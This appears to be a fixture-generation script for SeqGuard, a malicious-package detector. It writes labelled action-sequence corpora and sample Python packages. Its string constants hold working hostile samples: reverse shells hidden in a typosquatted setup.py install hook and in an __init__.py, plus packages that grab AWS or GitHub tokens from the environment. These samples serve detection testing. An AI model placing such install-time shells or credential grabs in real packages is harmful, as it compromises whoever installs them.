#!/usr/bin/env python3
# Copyright 2026 The SeqGuard Authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Regenerates the fixture corpora, packages and manifests under fixtures/."""
import json
import pathlib
import random
import shutil

ROOT = pathlib.Path(__file__).resolve().parents[2]
FIX = ROOT / "fixtures"
TAXONOMY = json.loads((ROOT / "data" / "seed_taxonomy.json").read_text())
TRIGGER = {e["action"]: (e["triggers"][0]["module_path"] if e["triggers"] else None)
           for e in TAXONOMY["entries"]}

# (name, label, planted actions, count, distractors?)
GROUPS = [
    ("revshell", "malicious", ["create_socket", "establish_tcp_connection", "dup_socket_stdin",
                               "dup_socket_stdout", "dup_socket_stderr"], 12, True),
    ("harvest", "malicious", ["get_env_var", "get_clipboard_text", "copy_to_clipboard"], 10, True),
    ("dropper", "malicious", ["download_file_url", "decode_base64_to_bytes", "exec_python_code"], 8,
     True),
    ("discord", "malicious", ["get_chrome_passwords", "create_discord_bot", "send_discord_message"],
     7, True),
    ("persist", "malicious", ["check_persistence_entry", "set_registry_value",
                              "hide_console_window"], 6, True),
    ("sysadmin", "benign", ["get_env_var", "spawn_process_no_shell", "read_process_stdout"], 14, True),
    ("install", "benign", ["path_string_operations", "execute_shell_command", "exit_program"], 12,
     True),
    ("fileops", "benign", ["basic_file_reading", "create_directory", "copy_file"], 10, True),
    ("http", "benign", ["create_http_connection", "send_http_get", "basic_file_writing"], 8, True),
    ("crypto", "benign", ["generate_aes_cipher", "decrypt_aes_data", "create_sha256_hash"], 7, True),
    ("worker", "benign", ["create_thread", "sleep_execution", "delete_file"], 6, True),
]
# Mixed groups: identical sequences in both classes.
MIXED = [
    ("upload", ["list_directory", "encode_base64", "send_http_post"], 9, 1),
    ("sqlite", ["open_sqlite_db", "serialize_to_json", "upload_file_transfer_sh"], 8, 2),
]
DISTRACT = {
    "malicious": ["capture_screen_region", "check_roblox_cookie", "compile_code_object",
                  "decompress_zlib", "decrypt_fernet_data", "disable_ssl_warnings",
                  "load_marshal_code", "send_telegram_message", "spawn_process_shell",
                  "init_evil_class", "init_grabber_class", "exfiltrate_folder"],
    "benign": ["change_file_permissions", "convert_int_to_char", "create_child_process",
               "get_hostname", "get_os_info", "get_username", "import_dynamic", "send_file_ftp"],
}


def context_of(actions):
    lines = []
    for a in actions:
        t = TRIGGER.get(a)
        lines.append(f"{t}(...)" if t else f"{a}()")
    return "\n".join(lines)


def with_distractors(rng, planted, pool):
    seq = list(planted)
    for _ in range(rng.randint(0, 2)):
        seq.insert(rng.randint(0, len(seq)), rng.choice(pool))
    return seq


def write_jsonl(path, rows):
    path.write_text("".join(json.dumps(r, sort_keys=True) + "\n" for r in rows))


def main_corpus():
    rng = random.Random(20240611)
    rows = []
    for name, label, planted, count, distract in GROUPS:
        for i in range(count):
            seq = with_distractors(rng, planted, DISTRACT[label]) if distract else list(planted)
            rows.append({"id": f"{label[0]}-{name}-{i:02d}", "label": label, "actions": seq,
                         "context": context_of(seq)})
    for name, planted, n_mal, n_ben in MIXED:
        for label, n in (("malicious", n_mal), ("benign", n_ben)):
            for i in range(n):
                rows.append({"id": f"{label[0]}-{name}-{i:02d}", "label": label,
                             "actions": list(planted), "context": context_of(planted)})
    rows.sort(key=lambda r: r["id"])
    write_jsonl(FIX / "corpus.jsonl", rows)


def redundant_corpus():
    rng = random.Random(7)
    actions = sorted(TRIGGER)
    rng.shuffle(actions)
    rows = []
    for g in range(6):
        planted = actions[6 * g:6 * g + 6]
        label = "malicious" if g % 2 == 0 else "benign"
        for i in range(10 + g):
            rows.append({"id": f"r{g}-{i:02d}", "label": label, "actions": list(planted)})
    write_jsonl(FIX / "redundant_corpus.jsonl", rows)


SETUP_PLAIN = '''from setuptools import setup, find_packages

setup(
    name="{name}",
    version="1.0.0",
    packages=find_packages(),
)
'''

SYSADMIN = '''import os
import subprocess


def run_tool(args):
    home = os.environ.get("HOME", "/")
    proc = subprocess.Popen(args, cwd=home, stdout=subprocess.PIPE)
    out, _ = proc.communicate()
    return out.decode()
'''

INSTALLER = '''import os
import sys

from setuptools import setup

here = os.path.join(os.path.dirname(__file__), "build")
if os.system("make -C " + here) != 0:
    sys.exit(1)

setup(name="fastbuild", version="0.4.1")
'''

FILEOPS = '''import os
import shutil


def mirror(src, dst):
    with open(src) as fh:
        header = fh.readline()
    os.makedirs(dst, exist_ok=True)
    shutil.copy(src, dst)
    return header
'''

HTTPCLIENT = '''import http.client
from pathlib import Path

import requests


def fetch(host, path, out):
    conn = http.client.HTTPConnection(host)
    resp = requests.get("https://" + host + path, timeout=10)
    target = Path(out)
    target.write_text(resp.text)
    return conn
'''

CRYPTO = '''import hashlib

from Crypto.Cipher import AES


def unseal(key, iv, blob):
    cipher = AES.new(key, AES.MODE_CBC, iv)
    plain = cipher.decrypt(blob)
    digest = hashlib.sha256(plain).hexdigest()
    return plain, digest
'''

WORKER = '''import shutil
import threading
import time


def start(job, scratch):
    worker = threading.Thread(target=job)
    worker.start()
    time.sleep(0.5)
    shutil.rmtree(scratch, ignore_errors=True)
'''

CONSTANTS = '''"""Package constants."""

VERSION = "{n}.0"
DEFAULT_TIMEOUT = 30
NAMES = ["alpha", "beta", "gamma"]
'''

HELPERS = '''def clamp(value, low, high):
    return max(low, min(high, value))


def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
'''

REVSHELL_SETUP = '''import os
import platform
import socket
import time

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        time.sleep(2)
        if platform.system() == "Linux":
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("203.0.113.7", 4444))
            os.dup2(s.fileno(), 0)
            os.dup2(s.fileno(), 1)
            os.dup2(s.fileno(), 2)
            os.system("/bin/sh -i")


setup(name="requestz", version="2.31.0", cmdclass={"install": PostInstall})
'''

REVSHELL_INIT = '''import os
import sys
import socket
import subprocess

_HOST = "198.51.100.4"


def _connect():
    conn = socket.socket()
    conn.connect((_HOST, 9001))
    os.dup2(conn.fileno(), sys.stdin.fileno())
    os.dup2(conn.fileno(), sys.stdout.fileno())
    os.dup2(conn.fileno(), sys.stderr.fileno())
    subprocess.call(["/bin/bash", "-i"])


_connect()
'''

HARVEST_SETUP = '''import os
import getpass

import pyperclip
from setuptools import setup

user = getpass.getuser()
token = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
clip = pyperclip.paste()
pyperclip.copy(token + "\\n" + clip + "\\n" + user)

setup(name="colourama", version="0.4.6")
'''

HARVEST_MODULE = '''import os
import time

from pyperclip import copy, paste


def sync_settings():
    key = os.getenv("GITHUB_TOKEN")
    time.sleep(1)
    current = paste()
    copy(current + str(key))
'''

FP_DEBUGGER = '''"""Remote debugging helper for lab machines."""
import os
import socket


def attach(host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect((host, port))
    os.dup2(sock.fileno(), 0)
    os.dup2(sock.fileno(), 1)
    os.dup2(sock.fileno(), 2)
'''

BINARY = b"\x7fELF\x02\x01\x01\x00\x00\x00\xff\xfe\x00\x00binary payload\x00\x80\x81"


def write(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)


def packages():
    base = FIX / "packages"
    if base.exists():
        shutil.rmtree(base)
    clean = {
        "clean_sysadmin": {"setup.py": SETUP_PLAIN.format(name="sysrun"),
                           "sysrun/__init__.py": "", "sysrun/runner.py": SYSADMIN,
                           "sysrun/util.py": HELPERS},
        "clean_installer": {"setup.py": INSTALLER, "fastbuild/__init__.py": CONSTANTS.format(n=1)},
        "clean_fileops": {"setup.py": SETUP_PLAIN.format(name="mirrorfs"),
                          "mirrorfs/__init__.py": "from .core import mirror\n",
                          "mirrorfs/core.py": FILEOPS},
        "clean_http": {"setup.py": SETUP_PLAIN.format(name="webget"),
                       "webget/__init__.py": "", "webget/client.py": HTTPCLIENT,
                       "webget/blob.py": BINARY},
        "clean_crypto": {"setup.py": SETUP_PLAIN.format(name="sealbox"),
                         "sealbox/__init__.py": CONSTANTS.format(n=2),
                         "sealbox/aes.py": CRYPTO, "sealbox/jobs.py": WORKER},
    }
    big = {"setup.py": REVSHELL_SETUP, "bigpkg/__init__.py": ""}
    bodies = [SYSADMIN, FILEOPS, HTTPCLIENT, CRYPTO, WORKER, HELPERS, CONSTANTS.format(n=3)]
    for i in range(18):
        big[f"bigpkg/mod{i:02d}.py"] = bodies[i % len(bodies)]
    malicious = {
        "mal_revshell": {"setup.py": REVSHELL_SETUP, "requestz/__init__.py": "",
                         "requestz/api.py": HELPERS},
        "mal_revshell_init": {"setup.py": SETUP_PLAIN.format(name="netutilz"),
                              "netutilz/__init__.py": REVSHELL_INIT,
                              "netutilz/util.py": HELPERS},
        "mal_harvest": {"setup.py": HARVEST_SETUP, "colourama/__init__.py": CONSTANTS.format(n=4)},
        "mal_harvest_module": {"setup.py": SETUP_PLAIN.format(name="cfgsync"),
                               "cfgsync/__init__.py": "", "cfgsync/sync.py": HARVEST_MODULE,
                               "cfgsync/fs.py": FILEOPS},
        "mal_setup_among_clean": big,
    }
    for group in (clean, malicious):
        for pkg, files in group.items():
            for rel, text in files.items():
                write(base / pkg / rel, text)
    write(base / "fp_remote_debugger" / "setup.py", SETUP_PLAIN.format(name="labdebug"))
    write(base / "fp_remote_debugger" / "labdebug" / "__init__.py", FP_DEBUGGER)

    rows = [{"package": f"packages/{p}", "label": "benign"} for p in clean]
    rows += [{"package": f"packages/{p}", "label": "malicious"} for p in malicious]
    write_jsonl(FIX / "manifest.jsonl", rows)
    write_jsonl(FIX / "manifest_with_fp.jsonl",
                rows + [{"package": "packages/fp_remote_debugger", "label": "benign"}])


def main():
    FIX.mkdir(exist_ok=True)
    main_corpus()
    redundant_corpus()
    packages()


if __name__ == "__main__":
    main()
